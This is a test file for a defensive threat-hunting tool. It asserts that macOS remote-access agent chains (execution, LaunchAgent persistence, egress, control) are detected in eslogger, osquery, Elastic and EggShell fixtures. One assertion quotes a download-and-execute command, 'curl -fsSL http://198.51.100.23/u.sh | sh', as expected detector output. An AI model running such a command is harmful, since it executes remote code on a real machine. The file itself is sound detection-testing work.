// macOS (AN1368) end to end: the hand-written eslogger + osquery fixtures of one Mac through the
// offline hunt, and the real EggShell export from the macOS attack dataset (skipped visibly when
// ../shared/data is absent).
//
// eslogger records carry no host name (the reader emits host ''), and the hunt does not yet give
// an input a host label, so these tests stand in for it: eslogger events get the host the osquery
// logs of the same Mac report (hostIdentifier "mbp-alice").
//
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { builtinCatalog } from '../../src/catalog/index.ts';
import { configSchema } from '../../src/config/schema.ts';
import { hunt } from '../../src/hunt.ts';
import type { Problem } from '../../src/ingest/reader.ts';
import type { Finding, StepId } from '../../src/model/finding.ts';
import { needsData, REPO_ROOT, sharedData } from '../support/data.ts';

const FIX = join(REPO_ROOT, 'test/fixtures/macos');
const HOST = 'mbp-alice';
const AGENT = '/Users/alice/Library/Application Support/.syncd/syncd';
const TEAMVIEWER = '/Applications/TeamViewer.app/Contents/MacOS/TeamViewer';

async function huntMac(paths: string[], config: Record<string, unknown> = {}) {
  const problems: Problem[] = [];
  const { findings, summary } = await hunt({
    paths,
    config: configSchema.parse(config),
    catalog: builtinCatalog(),
    // eslogger names no host: the fixtures are named by case, not by host, so say it as a user would.
    defaultHost: HOST,
    onProblem: (p) => problems.push(p),
  });
  return { findings, summary, problems };
}

const fixtures = (...names: string[]) => names.map((n) => join(FIX, n));
const seen = (f: Finding): StepId[] => f.steps.filter((s) => s.seen).map((s) => s.step);
const step = (f: Finding, id: StepId) => f.steps.find((s) => s.step === id)!;
const summaries = (f: Finding, id: StepId) => step(f, id).evidence.map((e) => e.summary);
const codes = (f: Finding) => f.reasons.map((r) => r.code);

const FULL = fixtures('full-chain.eslogger.ndjson', 'full-chain.osquery.log');
const APPROVED = fixtures('approved-app.eslogger.ndjson', 'approved-app.osquery.log');
const PKG = fixtures('pkg-launchdaemon.eslogger.ndjson', 'pkg-launchdaemon.osquery.log');

describe('macOS chains from eslogger + osquery fixtures', () => {
  test('headless agent in ~/Library/Application Support: one 4-step chain joining eslogger and osquery', async () => {
    const { findings, problems, summary } = await huntMac(FULL);
    assert.deepEqual(problems, []);
    assert.deepEqual(
      summary.inputs.map((i) => i.format),
      ['eslogger', 'osquery'],
    );
    assert.equal(findings.length, 1, findings.map((f) => f.title).join('\n'));
    const [f] = findings;
    assert.equal(f.status, 'alert');
    assert.equal(f.host, HOST);
    assert.equal(f.platform, 'macos');
    assert.equal(f.analytic, 'AN1368');
    assert.deepEqual(seen(f), ['execution', 'persistence', 'egress', 'control']);
    assert.deepEqual(f.agent.images, [AGENT], 'the BTM command with spaces names one program');
    // S2 from both the plist created in ~/Library/LaunchAgents and the BTM item.
    const s2 = step(f, 'persistence').evidence.map((e) => e.src.eventId);
    assert.ok(s2.includes('create') && s2.includes('btm_launch_item_add'), s2.join(','));
    assert.ok(summaries(f, 'persistence').every((s) => s.includes('com.syncd.agent')));
    // S3 from osquery: the socket_events connect and the session still open in later snapshots.
    assert.deepEqual(
      f.egress.map((d) => `${d.ip}:${d.port}`),
      ['198.51.100.23:443'],
    );
    assert.ok(step(f, 'egress').evidence.every((e) => e.src.format === 'osquery'));
  });

  test('the agent spawns osascript and sh -c "curl ... | sh": S4 names both, suspicious', async () => {
    const { findings } = await huntMac(FULL);
    const [f] = findings;
    const s4 = summaries(f, 'control').join('\n');
    assert.match(s4, /syncd spawned osascript/);
    assert.match(s4, /syncd spawned sh: sh -c curl -fsSL http:\/\/198\.51\.100\.23\/u\.sh \| sh/);
    assert.ok(codes(f).includes('suspicious_child'));
  });

  test('TeamViewer-like app under /Applications with nothing approved: a 3-step alert naming the tool', async () => {
    const { findings, problems } = await huntMac(APPROVED);
    assert.deepEqual(problems, []);
    assert.equal(findings.length, 1);
    const [f] = findings;
    assert.equal(f.status, 'alert');
    assert.deepEqual(seen(f), ['execution', 'persistence', 'egress']);
    assert.deepEqual(f.agent.images, [TEAMVIEWER]);
    assert.ok(codes(f).includes('known_tool'));
  });

  test('the same app approved (LaunchdAllowlist label and program, AllowedAppBundlePaths, vendor network): suppressed', async () => {
    const { findings } = await huntMac(APPROVED, {
      MinSteps: 2,
      LaunchdAllowlist: [{ label: '^com\\.teamviewer\\.', program: '^/Applications/TeamViewer\\.app/' }],
      AllowedAppBundlePaths: ['^/Applications/'],
      // osquery socket_events carry no names, so the vendor's network is allowlisted by range.
      ExternalIPAllowlist: { cidrs: ['198.51.100.80/28'] },
    });
    assert.equal(findings.length, 1);
    assert.equal(findings[0].status, 'suppressed');
    assert.ok(codes(findings[0]).includes('allowlisted'));
  });

  test('LaunchDaemon installed by a package postinstall script, no network: no finding', async () => {
    const { findings, problems } = await huntMac(PKG);
    assert.deepEqual(problems, []);
    assert.deepEqual(
      findings.map((f) => `${f.status} ${f.title} [${seen(f)}]`),
      [],
    );
  });

  test('the package LaunchDaemon is still reported as S2 when low-severity signals are asked for', async () => {
    const { findings } = await huntMac(PKG, { MinSteps: 1 });
    const withDaemon = findings.filter((f) =>
      step(f, 'persistence').evidence.some((e) => e.summary.includes('com.acme.backupd')),
    );
    assert.ok(withDaemon.length >= 1);
    assert.ok(
      withDaemon.every((f) => !seen(f).includes('egress')),
      'no network in this story',
    );
  });
});

const ELASTIC = fixtures('elastic-endpoint-eql.json', 'elastic-endpoint.ndjson');
const HELPER = '/Users/bob/Downloads/Remote Helper.app/Contents/MacOS/helper';

describe('macOS chain from Elastic Endpoint documents (EQL response + NDJSON export)', () => {
  test('a helper run from ~/Downloads: LaunchAgent, named client-heavy egress, temp-path modifier', async () => {
    const { findings, problems } = await huntMac(ELASTIC);
    assert.deepEqual(problems, []);
    assert.equal(findings.length, 1);
    const [f] = findings;
    assert.equal(f.host, 'mbp-bob.local');
    assert.deepEqual(f.agent.images, [HELPER]);
    assert.ok(['execution', 'persistence', 'egress'].every((s) => seen(f).includes(s as StepId)));
    assert.match(summaries(f, 'persistence').join(), /com\.remotehelper\.agent/);
    assert.match(summaries(f, 'egress').join(), /relay\.remotehelper\.example 203\.0\.113\.9:443/);
    assert.ok(codes(f).includes('temp_path'), codes(f).join(','));
    assert.ok(codes(f).includes('client_heavy'), codes(f).join(','));
  });

  test('its interactive zsh -i (exec after fork of pid 1002) is S4', async () => {
    const { findings } = await huntMac(ELASTIC);
    assert.deepEqual(seen(findings[0]), ['execution', 'persistence', 'egress', 'control']);
    assert.match(summaries(findings[0], 'control').join(), /helper spawned zsh: zsh -i/);
  });
});

const EGGSHELL = sharedData(
  'macos-attack-dataset/Execution/execution_eggshell_default_tmp_path_base64_c2.json',
);

describe('EggShell from the macOS attack dataset', needsData(EGGSHELL), () => {
  test('the agent run from /private/tmp is S1 of an EggShell chain with the temp-path modifier', async () => {
    const { findings, problems } = await huntMac([EGGSHELL!], { MinSteps: 1 });
    assert.deepEqual(problems, []);
    const egg = findings.find((f) => f.agent.images.includes('/private/tmp/espl'));
    assert.ok(egg, findings.map((f) => f.title).join('\n'));
    assert.deepEqual(seen(egg), ['execution']);
    assert.equal(egg.host, 'Sisis-MacBook-Pro.local');
    assert.equal(egg.platform, 'macos');
    assert.ok(codes(egg).includes('temp_path'), codes(egg).join(','));
    assert.ok(codes(egg).includes('known_tool'));
    assert.equal(step(egg, 'execution').evidence[0].src.format, 'elastic-endpoint');
  });
});
